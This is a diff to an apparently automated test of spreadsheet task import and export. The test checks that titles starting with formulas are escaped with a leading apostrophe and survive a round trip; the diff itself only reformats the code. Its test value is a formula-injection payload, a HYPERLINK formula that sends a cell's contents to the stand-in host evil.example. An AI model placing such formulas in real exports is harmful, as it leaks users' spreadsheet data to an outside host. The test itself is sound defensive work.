@@ -125,7 +125,7 @@ describe('task import (XLSX)', () => {
     expect(await t.testDb.database.db.$count(tasks, eq(tasks.planId, planId))).toBe(2000);
   });
 
-  it("exports a title a spreadsheet would run as text (leading apostrophe), and imports it back as it was written", async () => {
+  it('exports a title a spreadsheet would run as text (leading apostrophe), and imports it back as it was written', async () => {
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Mở")';
     const [row] = generatedRows(1);
     row![0] = 'CT-01';
@@ -138,7 +138,10 @@ describe('task import (XLSX)', () => {
     expect([cells[3], cells[5]]).toEqual([`'${formula}`, "'-5 % chi phí so với năm trước"]);
     const second = await createPlan('CT/KH-2');
     expect((await importInto(second, exported.rawPayload)).statusCode).toBe(200);
-    const [copy] = await t.testDb.database.db.select().from(tasks).where(and(eq(tasks.planId, second), eq(tasks.code, 'CT-01')));
+    const [copy] = await t.testDb.database.db
+      .select()
+      .from(tasks)
+      .where(and(eq(tasks.planId, second), eq(tasks.code, 'CT-01')));
     expect([copy?.titleVi, copy?.descriptionVi]).toEqual([formula, '-5 % chi phí so với năm trước']);
   });
 
